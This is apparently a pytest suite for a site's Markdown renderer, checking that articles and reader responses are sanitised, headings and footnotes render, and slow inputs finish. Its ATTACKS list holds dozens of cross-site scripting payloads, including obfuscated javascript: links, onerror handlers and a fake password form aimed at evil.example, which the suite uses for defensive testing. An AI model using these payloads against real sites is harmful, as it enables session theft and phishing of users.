"""Markdown: what authors can write, what readers can write, and that no script comes through either."""

import re

import pytest

from app.articles.directives import LESSON_HERE
from app.articles.markdown import (
    contents,
    count_words,
    plain_text,
    render_article,
    render_response,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    '![x](x "\\" onerror=\\"alert(1)")',
    '[x](/y "\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<p style="position:fixed;inset:0">x</p>',
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video src=x onerror=alert(1)><source onerror="alert(1)"></video>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '::: note "><script>alert(1)</script>\nx\n:::',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '## <img src=x onerror=alert(1)> "><script>alert(1)</script>',
    "```html\n</code></pre><script>alert(1)</script>\n```",
]
TAG = re.compile(r"<[^>]*>")
FORBIDDEN_TAG = re.compile(
    r"<\s*/?(script|iframe|object|embed|form|input|button|style|link|meta|base|svg|math|body|video|source|details)\b",
    re.IGNORECASE,
)


def assert_harmless(rendered: str) -> None:
    assert not FORBIDDEN_TAG.search(rendered), rendered
    for tag in TAG.findall(rendered):
        assert not re.search(r"\son\w+\s*=", re.sub(r'"[^"]*"', '""', tag), re.IGNORECASE), tag
        assert not re.search(r'(href|src)="\s*(javascript|vbscript|data):', tag, re.IGNORECASE), tag
        assert not re.search(r"\sstyle\s*=", tag), tag


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_in_an_article(attack: str) -> None:
    assert_harmless(render_article(attack).html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_in_a_response(attack: str) -> None:
    assert_harmless(render_response(attack))


def test_html_in_a_response_is_shown_as_it_was_typed() -> None:
    assert render_response("<b>bold</b> & so") == "<p>&lt;b&gt;bold&lt;/b&gt; &amp; so</p>\n"


def test_a_response_keeps_emphasis_lists_quotes_and_line_breaks() -> None:
    rendered = render_response("One *two* **three**\nfour\n\n- a\n- b\n\n> said")
    assert "<em>two</em> <strong>three</strong><br>" in rendered
    assert "<li>a</li>" in rendered
    assert "<blockquote>" in rendered


def test_a_response_has_neither_headings_nor_pictures() -> None:
    rendered = render_response("# Loud\n\n![x](https://example.com/x.png)")
    assert "<h1" not in rendered
    assert "<img" not in rendered


def test_links_in_responses_give_nothing_to_their_targets() -> None:
    rendered = render_response("[mine](https://example.com/shop)")
    assert '<a href="https://example.com/shop" rel="ugc nofollow noopener">mine</a>' in rendered


def test_a_response_cannot_borrow_the_pages_classes_or_ids() -> None:
    rendered = render_article('<div class="wall" id="main"><p class="notice-title btn">x</p></div>').html
    assert "wall" not in rendered
    assert "btn" not in rendered
    assert 'id="main"' not in rendered


def test_headings_begin_at_the_second_level_and_make_the_contents() -> None:
    rendered = render_article("# Why\n\n## How *so*\n\n### Detail\n\n## How *so*").html
    assert "<h1" not in rendered
    assert [(h.level, h.id, h.text) for h in contents(rendered)] == [
        (2, "why", "Why"),
        (2, "how-so", "How so"),
        (3, "detail", "Detail"),
        (2, "how-so-1", "How so"),
    ]


@pytest.mark.parametrize("title", ["Responses", "Respond", "Name", "Email", "Main", "fn 1", "Response 7"])
def test_a_heading_never_takes_an_id_that_the_page_uses(title: str) -> None:
    (heading,) = contents(render_article(f"## {title}").html)
    assert heading.id.startswith("on-")


def test_a_picture_alone_becomes_a_figure_with_its_caption() -> None:
    rendered = render_article('![A hip from behind](/hip.png "The *six* rotators")').html
    assert rendered.startswith("<figure>")
    assert 'alt="A hip from behind"' in rendered
    assert "<figcaption>The *six* rotators</figcaption>" in rendered


def test_boxes_pull_quotes_footnotes_and_tables_keep_their_shape() -> None:
    rendered = render_article(
        "::: pull\nSlowly.\n:::\n\n::: careful After a fall\nSee a doctor.\n:::\n\n"
        "Two seconds.[^1]\n\n[^1]: A rule.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    ).html
    assert '<aside class="pullquote">' in rendered
    assert '<div class="notice notice-warn">\n<p class="notice-title">After a fall</p>' in rendered
    assert 'href="#fn1"' in rendered
    assert 'id="fn1"' in rendered
    assert 'aria-label="Back to the text"' in rendered
    assert "<table>" in rendered


def test_the_lessons_place_is_marked_exactly_as_the_page_looks_for_it() -> None:
    assert LESSON_HERE in render_article("Before.\n\n::: lesson\n:::\n\nAfter.").html


def test_words_are_counted_without_tags_and_entities() -> None:
    assert render_article("Don’t *hold* it: two-second stops & go.").word_count == 6
    assert count_words("<p></p>") == 0
    assert plain_text("<p>a &amp; <em>b</em>.</p>\n<p>c</p>") == "a & b. c"


@pytest.mark.parametrize(
    "text", ["[" * 5_000, "*" * 5_000, ">" * 3_000, "`" * 5_000, "![" * 3_000, "- " * 2_000]
)
def test_text_made_to_be_slow_is_rendered_in_good_time(text: str) -> None:
    render_response(text[:8_000])
    render_article(text)
